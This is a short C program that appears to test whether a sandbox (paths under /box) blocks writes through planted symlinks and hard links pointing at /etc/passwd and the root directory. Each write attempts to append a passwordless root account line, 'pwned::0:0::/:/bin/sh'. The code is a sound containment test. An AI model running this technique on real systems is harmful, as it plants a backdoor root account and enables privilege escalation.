#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

/* Plants links to host-looking paths in the work dir, then tries to write through them. */
int main(void) {
    int escaped = 0;
    symlink("/etc/passwd", "/box/out");
    symlink("/", "/box/root");
    symlink("/etc/passwd", "/box/main");
    if (link("/etc/passwd", "/box/passwd") == 0)
        puts("note: hard link to /etc/passwd made (still read-only)");
    const char *targets[] = {"/box/out", "/box/root/etc/passwd", "/box/main", "/box/root/pwned"};
    for (int i = 0; i < 4; i++) {
        int fd = open(targets[i], O_WRONLY | O_APPEND | O_CREAT, 0644);
        if (fd >= 0 && write(fd, "pwned::0:0::/:/bin/sh\n", 22) == 22) {
            printf("ESCAPED: wrote through %s\n", targets[i]);
            escaped = 1;
        } else {
            printf("%s blocked: %s\n", targets[i], strerrorname_np(errno));
        }
    }
    puts(escaped ? "ESCAPED" : "blocked");
    return escaped;
}
